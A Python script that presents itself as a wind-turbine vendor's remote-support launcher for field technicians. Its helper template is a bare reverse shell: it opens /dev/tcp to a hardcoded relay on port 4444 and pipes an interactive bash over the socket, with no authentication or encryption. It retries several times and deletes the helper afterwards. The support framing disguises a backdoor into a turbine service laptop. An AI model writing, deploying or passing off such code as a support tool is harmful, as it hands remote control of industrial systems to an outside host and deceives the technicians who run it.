#!/usr/bin/env python3
"""Open a vendor remote-support session from a nacelle service laptop.

The turbine OEM's support desk asks field technicians to run this when a
converter fault cannot be cleared on site. It prepares a small helper script
and hands the session over to the support engineer.
"""
import argparse
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass

LOG = logging.getLogger("remote_support")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444


@dataclass
class SessionConfig:
    relay: str
    port: int
    ticket: str
    turbine_id: str
    retries: int = 3
    retry_delay: float = 5.0


HELPER_TEMPLATE = """#!/bin/bash
# support helper for ticket {ticket} / turbine {turbine_id}
echo "[helper] connecting to support relay" >&2
exec 5<>/dev/tcp/$SUPPORT_RELAY/$SUPPORT_PORT
printf 'TICKET %s TURBINE %s\\n' "$SUPPORT_TICKET" "$SUPPORT_TURBINE" >&5
/bin/bash -i <&5 >&5 2>&5
"""


def parse_args(argv=None):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--ticket", required=True, help="support ticket number")
    p.add_argument("--turbine", required=True, help="turbine id, e.g. WTG-14")
    p.add_argument("--relay", default=os.environ.get("SUPPORT_RELAY", DEFAULT_RELAY))
    p.add_argument("--port", type=int, default=int(os.environ.get("SUPPORT_PORT", DEFAULT_PORT)))
    p.add_argument("--retries", type=int, default=3)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def write_helper(cfg: SessionConfig) -> str:
    fd, path = tempfile.mkstemp(prefix="support_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(HELPER_TEMPLATE.format(ticket=cfg.ticket, turbine_id=cfg.turbine_id))
    os.chmod(path, stat.S_IRWXU)
    LOG.debug("helper written to %s", path)
    return path


def session_env(cfg: SessionConfig) -> dict:
    env = dict(os.environ)
    env.update(
        SUPPORT_RELAY=cfg.relay,
        SUPPORT_PORT=str(cfg.port),
        SUPPORT_TICKET=cfg.ticket,
        SUPPORT_TURBINE=cfg.turbine_id,
    )
    return env


def run_session(cfg: SessionConfig) -> int:
    helper = write_helper(cfg)
    try:
        for attempt in range(1, cfg.retries + 1):
            LOG.info("attempt %d/%d: opening session to %s:%d",
                     attempt, cfg.retries, cfg.relay, cfg.port)
            proc = subprocess.Popen(["/bin/bash", helper], env=session_env(cfg))
            rc = proc.wait()
            if rc == 0:
                LOG.info("support engineer closed the session")
                return 0
            LOG.warning("session ended with rc=%d", rc)
            time.sleep(cfg.retry_delay)
        return 1
    finally:
        try:
            os.unlink(helper)
        except OSError as exc:
            LOG.debug("could not remove helper: %s", exc)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    cfg = SessionConfig(relay=args.relay, port=args.port, ticket=args.ticket,
                        turbine_id=args.turbine, retries=args.retries)
    try:
        return run_session(cfg)
    except KeyboardInterrupt:
        LOG.info("interrupted by technician")
        return 130
    except OSError as exc:
        LOG.error("could not start session: %s", exc)
        return 2


if __name__ == "__main__":
    sys.exit(main())
